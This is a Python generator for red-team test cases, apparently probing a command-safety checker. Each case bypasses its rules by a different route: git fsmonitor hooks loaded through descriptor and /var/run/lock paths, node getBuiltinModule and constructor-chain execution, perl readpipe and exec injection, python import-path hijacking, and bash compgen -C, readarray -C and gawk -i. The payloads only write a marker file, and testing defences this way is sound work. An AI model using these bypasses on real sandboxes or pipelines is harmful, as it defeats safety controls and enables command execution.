# Round forty attacks (exec'd by gen_attacks.py; uses A, SH, ARITH, SEDE).
import json, textwrap


def J(d):
    """a schema or mapping as YAML flow text (JSON is YAML)"""
    return json.dumps(d)


def X(name, cls, desc, argdefs, steps, args, why, head="", **extra):
    """an export with one or more run: steps; steps = [(name, script, {step keys})]"""
    req = [k for k in argdefs if "default" not in argdefs[k]]
    y = "name: %s\ndescription: %s\n" % (name.replace("-", "_"), J(desc))
    if argdefs:
        y += "args:\n"
        for k, v in argdefs.items():
            y += "  %s: %s\n" % (k, J(v))
        y += "required: [%s]\n" % ", ".join(req)
    y += head
    y += "timeout: 30\nsteps:\n"
    for sname, script, keys in steps:
        y += "  - name: %s\n" % sname
        for k, v in (keys or {}).items():
            y += "    %s: %s\n" % (k, J(v))
        y += "    run: |\n"
        y += textwrap.indent(textwrap.dedent(script).strip() + "\n", "      ")
    A(name, cls, y, args, why, **extra)


def R(name, cls, desc, argdefs, script, args, why, head="", env=None, **extra):
    X(name, cls, desc, argdefs, [("s", script, {"env": env} if env else None)], args, why, head=head, **extra)



# ------------------------------------------------------------------ shared bits
import base64, io, tarfile

PW = "HARBOR-PWNED-$((6*7))"                       # computed by the shell that runs the payload
TEE = 'tee -a /tmp/harbor-r41-pwned "$HARBOR_RUN_DIR/pwned"'
SHP = "echo %s | %s" % (PW, TEE)                     # a sh command line: marker to stdout, /tmp and the run dir
# the same in a bash arithmetic subscript, with no blank (for consumers that split at blanks)
ARITH1 = "x[$(echo${IFS}%s|tee${IFS}-a${IFS}/tmp/harbor-r41-pwned${IFS}$HARBOR_RUN_DIR/pwned>&2)]" % PW
ARITHB = "x[$(%s >&2)]" % SHP
SEC = "secrets:\n  API_TOKEN: {env: CI_API_TOKEN}\n"
DBSEC = "secrets:\n  DB_PASSWORD: {env: CI_DB_PASSWORD}\n"
STUB = "#!/bin/sh\n" + SHP + "\n"


def b64(s):
    return base64.b64encode(s.encode()).decode()


def tgz(files):
    """a .tar.gz (base64) of {name: (mode, text)}"""
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w:gz") as t:
        for name, (mode, body) in files.items():
            data = body.encode()
            ti = tarfile.TarInfo(name)
            ti.size, ti.mode, ti.mtime = len(data), mode, 1700000000
            t.addfile(ti, io.BytesIO(data))
    return base64.b64encode(bio.getvalue()).decode()


ATT_TXT = {"type": "string", "contentEncoding": "base64", "contentMediaType": "text/plain", "max_bytes": 65536}
ATT_JSON = {"type": "string", "contentEncoding": "base64", "contentMediaType": "application/json", "max_bytes": 65536}
ATT_TGZ = {"type": "string", "contentEncoding": "base64", "contentMediaType": "application/gzip", "max_bytes": 1048576}
REPO = {"type": "string", "pattern": "^[A-Za-z0-9._/-]{1,200}$",
        "description": "repository path on the company git server, e.g. team/app.git"}
GITREDIR = "go/127.0.0.1/18765/team/app.git"          # the author's server redirects /go/HOST/PORT/… there




CURLRC = 'proxy = "http://127.0.0.1:18765"\n'
PYJSON = "import os\nos.system('%s')\n" % SHP.replace("'", "\\'")
NAME = {"type": "string", "pattern": "^[A-Za-z0-9._]{1,40}$", "description": "file name of the snippet"}


# ================================================================== round 41 attacks
R38L = ("Round 38: a language's program given a run-directory file as an operand reads caller data from it, and is "
        "read for its language's ways to run text (perl: eval, system, backticks, 2-argument open, <>, readline(ARGV); "
        "node: eval, Function, require, child_process, computed global names, process, this, Reflect, module). ")
TXT = {"type": "string", "maxLength": 300}
NOTE = {"type": "string", "maxLength": 300, "description": "one line of text"}
CFG = dict(ATT_TXT, description="the team's git settings file")
# a git config whose fsmonitor hook git status runs (a shell command line); marker to stderr, /tmp and the run dir
HOOKCMD = "echo %s | tee -a /tmp/harbor-r41-pwned $HARBOR_RUN_DIR/pwned >&2; false" % PW
FSMON = '[core]\n\tfsmonitor = "%s"\n' % HOOKCMD
HOOKSH = "#!/bin/sh\n" + SHP + " >&2\nexit 1\n"
R39 = ("Round 39: a path of a place a step may write is caller data, refused where the grammar says code or config "
       "(git -c include.path=, GIT_CONFIG_GLOBAL as a KEY=); the places named are the run directory, temporary "
       "folders, home, /dev/shm, /run/shm, /run/lock, /run/user, /var/lock, /var/run/shm, /proc/*/root, mktemp, "
       "paths with .. after a link. ")
R39X = ("Round 39/40: the exception for a file the same step wrote in full just before at its top level with printf "
        "of the author's text, named by no other command of the script, for a program with a grammar and no program "
        "text; off when the script has set +e or set -C, or mentions noclobber or errexit. ")

# ---------------------------------------------------------------- config-path-is-a-descriptor
R("stdin-is-include-path", "config-path-is-a-descriptor", "Repository status with the caller's extra settings",
  {"settings": CFG},
  """
  git -c include.path=/dev/stdin status --short < "$ARG_settings"
  """,
  {"settings": b64(FSMON)},
  R39 + "The include path is the literal /dev/stdin, a device, not a place; the caller's file reaches git only as "
  "standard input (< FILE), which git status never reads as commands. git opens /dev/stdin as its config file.")

R("fd3-is-global-config", "config-path-is-a-descriptor", "Repository status with the caller's settings on descriptor 3",
  {"settings": CFG},
  """
  GIT_CONFIG_GLOBAL=/dev/fd/3 git status --short 3< "$ARG_settings"
  """,
  {"settings": b64(FSMON)},
  R39 + "GIT_CONFIG_GLOBAL= is the literal /dev/fd/3 (no place, no .. after a link); the caller's file is only "
  "opened by a 3< redirection for that one command, which the docs never class as a code place.")

R("exec-fd-proc-self", "config-path-is-a-descriptor", "Repository status after opening the caller's settings",
  {"settings": CFG},
  """
  exec 4< "$ARG_settings"
  echo "settings opened"
  git -c include.path=/proc/self/fd/4 status --short
  exec 4<&-
  """,
  {"settings": b64(FSMON)},
  R39 + "/proc/self/fd/4 is neither /proc/self/root nor /proc/self/cwd (round 20) nor a path with ..; exec 4< FILE "
  "opens the caller's attachment for reading, which is data; git then reads the descriptor as its config.")

X("dir-descriptor-path", "config-path-is-a-descriptor", "Repository status with the shared team settings folder",
  {"settings": CFG},
  [("stage", """
    mkdir -p /dev/shm/r41-app
    cp -- "$ARG_settings" /dev/shm/r41-app/team.gitconfig
    """, None),
   ("status", """
    exec 5< /dev/shm/r41-app
    GIT_CONFIG_GLOBAL=/dev/fd/5/team.gitconfig git status --short
    """, None)],
  {"settings": b64(FSMON)},
  R39 + "The folder is opened once as descriptor 5 (a read redirection of a folder, no program given its path), and "
  "git gets /dev/fd/5/team.gitconfig: a device path with no .., which the kernel resolves through the open folder.")

# ---------------------------------------------------------------- exception-condition-spelling
X("noclobber-quoted-word", "exception-condition-spelling", "Repository status with the release bot's identity",
  {"settings": CFG},
  [("stage", """
    cp -- "$ARG_settings" "$HARBOR_RUN_DIR/team.gitconfig"
    """, None),
   ("status", """
    set -o noclob''ber
    set +o errex''it
    printf '[user]\\n\\tname = Release Bot\\n' > "$HARBOR_RUN_DIR/team.gitconfig"
    GIT_CONFIG_GLOBAL="$HARBOR_RUN_DIR/team.gitconfig" git status --short
    """, None)],
  {"settings": b64(FSMON)},
  R39X + "The script's text never contains 'noclobber', 'errexit', 'set +e' or 'set -C': bash joins noclob''ber and "
  "errex''it into the option names. The printf fails on the caller's file the first step copied, and git reads it.")

X("builtin-set-cluster", "exception-condition-spelling", "Repository status with the release bot's identity",
  {"settings": CFG},
  [("stage", """
    cp -- "$ARG_settings" "$HARBOR_RUN_DIR/team.gitconfig"
    """, None),
   ("status", """
    builtin set -uC
    command set +ue
    printf '[user]\\n\\tname = Release Bot\\n' > "$HARBOR_RUN_DIR/team.gitconfig"
    GIT_CONFIG_GLOBAL="$HARBOR_RUN_DIR/team.gitconfig" git status --short
    """, None)],
  {"settings": b64(FSMON)},
  R39X + "set is run through builtin and command, and its flags are clusters (-uC, +ue): no word is 'set' followed "
  "by '+e' or '-C'. noclobber makes the write fail on the caller's file, errexit off lets git read it.")

# ---------------------------------------------------------------- clean-file-rewritten-by-survivor
X("setsid-survivor-rewrites", "clean-file-rewritten-by-survivor", "Repository status with the release bot's identity",
  {"settings": CFG},
  [("stage", """
    cp -- "$ARG_settings" "$HARBOR_RUN_DIR/incoming.gitconfig"
    setsid sh -c 'sleep 1; cp -- "$HARBOR_RUN_DIR/incoming.gitconfig" "$HARBOR_RUN_DIR/team.gitconfig"' </dev/null >/dev/null 2>&1 &
    echo "staged"
    """, None),
   ("status", """
    printf '[user]\\n\\tname = Release Bot\\n' > "$HARBOR_RUN_DIR/team.gitconfig"
    sleep 2
    GIT_CONFIG_GLOBAL="$HARBOR_RUN_DIR/team.gitconfig" git status --short
    """, None)],
  {"settings": b64(FSMON)},
  R39X + "The reading step writes the file in full with printf just before, and no other command of its script names "
  "it; the copy that replaces it is an earlier step's setsid child (a new session, so not stopped with the step's "
  "process group), whose literal sh -c text holds no caller data.")

# ---------------------------------------------------------------- place-computed-by-clean-command
def _place_by(name, how, why):
    X(name, "place-computed-by-clean-command", "Repository status with the shared team settings",
      {"settings": CFG},
      [("stage", """
        mkdir -p /dev/shm/r41-app
        cp -- "$ARG_settings" /dev/shm/r41-app/team.gitconfig
        """, None),
       ("status", how + """
        GIT_CONFIG_GLOBAL="$d/team.gitconfig" git status --short
        """, None)],
      {"settings": b64(FSMON)},
      R39 + "Round 40 made mktemp's output a place; other pure commands (security.md 7 rule 2: the output of a pure "
      "command with clean words, reading no file, is clean) print a place the checker never sees as text: " + why)

_place_by("place-by-date", "d=$(date +/dev/shm/r41-app)\n",
          "date +FORMAT with no % prints the format, /dev/shm/r41-app.")
_place_by("place-by-tr", "d=$(tr A-Z a-z <<< /DEV/SHM/R41-APP)\n",
          "tr lowercases the author's here-string /DEV/SHM/R41-APP (what read/commands take from a here-string of the "
          "author's text is the author's).")
_place_by("place-by-sed", "d=$(sed 's/@/shm/' <<< /dev/@/r41-app)\n",
          "sed replaces @ in the author's here-string /dev/@/r41-app.")

# ---------------------------------------------------------------- place-spelling (/var/run/lock)
X("var-run-lock-env", "place-spelling", "Repository status with the shared team settings",
  {"settings": CFG},
  [("stage", """
    mkdir -p /run/lock/r41-app
    cp -- "$ARG_settings" /run/lock/r41-app/team.gitconfig
    """, None),
   ("status", """
    git status --short
    """, {"env": {"GIT_CONFIG_GLOBAL": "/var/run/lock/r41-app/team.gitconfig"}})],
  {"settings": b64(FSMON)},
  R39 + "Round 37/38 list /run/lock and /var/lock, and map only /var/run/shm to /dev/shm; /var/run/lock is not named, "
  "but /var/run is a link to /run. The step's env: value is the author's literal.")

A("var-run-lock-argv", "place-spelling", """
name: var_run_lock_argv
description: "Repository status with the shared team settings"
args:
  settings: %s
required: [settings]
timeout: 30
steps:
  - name: stage
    run: |
      mkdir -p /run/lock/r41-app
      cp -- "$ARG_settings" /run/lock/r41-app/team.gitconfig
  - name: status
    argv: [git, -c, "include.path=/var/run/lock/r41-app/team.gitconfig", status, --short]
""" % J(CFG), {"settings": b64(FSMON)},
  R39 + "An argv: step (judged the same way) whose git -c include.path= is /var/run/lock/…, a spelling of /run/lock "
  "no note names.")

X("var-run-lock-cwd", "place-spelling", "Validate the caller's JSON with the standard library",
  {"plugin": dict(ATT_TXT, description="a helper module")},
  [("stage", """
    mkdir -p /run/lock/r41-app
    cp -- "$ARG_plugin" /run/lock/r41-app/json.py
    """, None),
   ("check", """
    python3 -c 'import json; print(json.dumps({"ok": True}))'
    """, {"cwd": "/var/run/lock/r41-app"})],
  {"plugin": b64(PYJSON)},
  "Round 40: a step whose cwd: is a place works in a folder a step may write. /var/run/lock is not among the "
  "places named (/run/lock, /var/lock, /var/run/shm); python3 -c puts the working folder first on sys.path.")

# ---------------------------------------------------------------- step-key-names-place (secrets: file:)
T("status_with_hook", """
name: status_with_hook
description: "Repository status with the team's fsmonitor hook"
secrets:
  FSMONITOR_HOOK: {file: /dev/shm/r41-app/fsmonitor-hook, programs: [git]}
timeout: 30
steps:
  - name: status
    run: |
      git -c core.fsmonitor="$FSMONITOR_HOOK" status --short
""")
R("secret-file-in-place", "step-key-names-place", "Install the fsmonitor hook command the status tool uses",
  {"hook": dict(ATT_TXT, description="the hook command line")},
  """
  mkdir -p /dev/shm/r41-app
  cp -- "$ARG_hook" /dev/shm/r41-app/fsmonitor-hook
  """,
  {"hook": b64(HOOKCMD + "\n")},
  "A secrets: {file: PATH} entry is a step-level key that names a file (docs: read where the steps run, at the run's "
  "start); no note checks it against the places a step may write. The secret is clean to the checker (security.md 7 "
  "rule 2: the export's secrets: are the author's) and its programs: [git] lets git get it anywhere; this export "
  "writes the caller's text to that file (an absolute path, not the working folder), the next call of "
  "status_with_hook gives it to git -c core.fsmonitor.",
  then=[{"export": "status_with_hook", "args": {}}])

# ---------------------------------------------------------------- clean-file-names-place
X("clean-config-names-hook", "clean-file-names-place", "Repository status with the team's fsmonitor hook",
  {"hook": dict(ATT_TXT, description="the team's hook script")},
  [("stage", """
    mkdir -p /dev/shm/r41-app
    cp -- "$ARG_hook" /dev/shm/r41-app/hook.sh
    """, None),
   ("status", """
    printf '[core]\\n\\tfsmonitor = sh /dev/shm/r41-app/hook.sh\\n' > "$HARBOR_RUN_DIR/team.gitconfig"
    GIT_CONFIG_GLOBAL="$HARBOR_RUN_DIR/team.gitconfig" git status --short
    """, None)],
  {"hook": b64(HOOKSH)},
  R39X + "The exception's file is the author's literal printf text; the place it names (/dev/shm/r41-app/hook.sh) is "
  "text inside a printf format, not a word any command is given, and git runs it as its fsmonitor command.")

X("clean-config-includes-place", "clean-file-names-place", "Repository status with the team's settings",
  {"settings": CFG},
  [("stage", """
    mkdir -p /run/lock/r41-app
    cp -- "$ARG_settings" /run/lock/r41-app/extra.gitconfig
    """, None),
   ("status", """
    printf '[user]\\n\\tname = Release Bot\\n[include]\\n\\tpath = /run/lock/r41-app/extra.gitconfig\\n' > "$HARBOR_RUN_DIR/team.gitconfig"
    GIT_CONFIG_GLOBAL="$HARBOR_RUN_DIR/team.gitconfig" git status --short
    """, None)],
  {"settings": b64(FSMON)},
  R39X + "Round 40 001 used a relative include; here the author's literal text includes an absolute place, which "
  "only git reads (the printf's format is no path word).")

# ---------------------------------------------------------------- node-module-by-name
R("node-get-builtin-module", "node-module-by-name", "Call a helper of node's standard library",
  {"module": {"type": "string", "pattern": "^[a-z_]{1,20}$", "description": "the module"},
   "input": NOTE},
  """
  node -e 'const m = process.getBuiltinModule(process.argv[2]); console.log(String(m.execSync(process.argv[1])))' -- "$ARG_input" "$ARG_module"
  """,
  {"module": "child_process", "input": SHP},
  R38L + "The literal program names no listed primitive (no eval, Function, require, child_process, no computed "
  "name of the global object, process or this): process.getBuiltinModule (node 20.16+) loads the module the caller "
  "names, and the method is then called on that module.")

R("node-constructor-chain", "js-function-by-constructor-chain", "Evaluate the caller's formula",
  {"formula": TXT},
  """
  node -e 'const f = [].map.constructor("return (" + process.argv[1] + ")"); console.log(f())' -- "$ARG_formula"
  """,
  {"formula": 'process.getBuiltinModule("child_process").execSync("%s").toString()' % SHP.replace('"', '\\"')},
  R38L + "Round 40: \\u escapes. Here the program reaches the Function constructor as [].map.constructor, a literal "
  "property chain: no word Function, eval, globalThis, this or a computed name.")

# ---------------------------------------------------------------- perl-run-primitive-unlisted
R("perl-readpipe", "perl-run-primitive-unlisted", "Count matches of a word in the app log",
  {"word": NOTE},
  """
  perl -e 'my $q = shift; print readpipe("grep -c -e '"'"'$q'"'"' logs/app.log")' -- "$ARG_word"
  """,
  {"word": "x' /dev/null; %s; : '" % SHP},
  R38L + "perl's list is eval, system, backticks, 2-argument open, <>, readline(ARGV); readpipe is backticks' "
  "function form, and its string goes to /bin/sh.")

R("perl-exec-string", "perl-run-primitive-unlisted", "Say which service is restarted",
  {"service": NOTE},
  """
  perl -e 'my ($svc) = @ARGV; exec "echo restarting $svc"' -- "$ARG_service"
  """,
  {"service": "web; " + SHP},
  R38L + "exec with one string runs it through /bin/sh (perlfunc exec); exec is not on the list.")

# ---------------------------------------------------------------- python-import-path-mutation
PLUG = tgz({"csv.py": (0o644, "import os\nos.system(%r)\n" % SHP), "cols.csv": (0o644, "a,b\n")})
X("python-sys-path-insert", "python-import-path-mutation", "Read the caller's column spec",
  {"bundle": dict(ATT_TGZ, description="a .tar.gz with cols.csv")},
  [("s", """
    mkdir -p "$HARBOR_RUN_DIR/plugin"
    tar -xzf "$ARG_bundle" -C "$HARBOR_RUN_DIR/plugin"
    python3 -c 'import sys; sys.path.insert(0, sys.argv[1]); import csv, json; print(json.dumps(list(csv.reader(open(sys.argv[1] + "/cols.csv")))))' "$HARBOR_RUN_DIR/plugin"
    """, None)],
  {"bundle": PLUG},
  "security.md 7 rule 8: a literal python program is accepted when its modules and names are allowlisted (json, "
  "csv, sys…) and it calls no eval/exec/getattr/__import__; round 38: given a run-directory operand, it is read for "
  "ways to run text. sys.path.insert is a list method; the import statement then loads the caller's csv.py.")

X("python-chdir-import", "python-import-path-mutation", "Read the caller's column spec",
  {"bundle": dict(ATT_TGZ, description="a .tar.gz with cols.csv")},
  [("s", """
    mkdir -p "$HARBOR_RUN_DIR/plugin"
    tar -xzf "$ARG_bundle" -C "$HARBOR_RUN_DIR/plugin"
    python3 -c 'import os, sys; os.chdir(sys.argv[1]); import csv, json; print(json.dumps(list(csv.reader(open("cols.csv")))))' "$HARBOR_RUN_DIR/plugin"
    """, None)],
  {"bundle": PLUG},
  "As above; os.chdir is no cd of the script's (rule 7 reads cd, git -C, env -C), but python -c's sys.path[0] is '' "
  "(the folder at import time), so the later import loads the caller's csv.py.")

# ---------------------------------------------------------------- builtin-runs-text-unlisted
R("compgen-command-option", "builtin-runs-text-unlisted", "List completions of a word",
  {"word": {"type": "string", "pattern": "^[a-z]{1,20}$"}, "source": NOTE},
  """
  compgen -C "$ARG_source" -- "$ARG_word" || true
  """,
  {"word": "dep", "source": SHP + " >&2"},
  "Round 40: fc is refused and compgen -W was found; compgen -C COMMAND runs its text as a shell command "
  "(bash's complete builtin), a builtin option no note names.")

R("readarray-callback", "builtin-runs-text-unlisted", "Read the app log with a progress callback",
  {"callback": NOTE},
  """
  readarray -t -c 1 -C "$ARG_callback" lines < logs/app.log
  echo "${#lines[@]} lines"
  """,
  {"callback": SHP + " >&2; :"},
  "Round 37 names mapfile -C (its callback text runs like eval); readarray is the same builtin under its other name "
  "(bash(1): readarray is a synonym for mapfile), which no note names.")

R("gawk-include-option", "language-source-option-unlisted", "Count log lines with the caller's helper functions",
  {"helpers": dict(ATT_TXT, description="awk helper functions")},
  """
  awk -i "$ARG_helpers" '{ n++ } END { print n " lines" }' logs/app.log
  """,
  {"helpers": b64('BEGIN { system("%s") }\n' % SHP.replace('"', '\\"'))},
  "Round 38/39/40: awk -f FILE takes its program from the file (refused for a place, and the exception never holds "
  "for a language's program file); round 35: @include in the program text. gawk's -i FILE (--include) loads a "
  "source file before the literal program, an option no note names; the caller's attachment is given to it.")
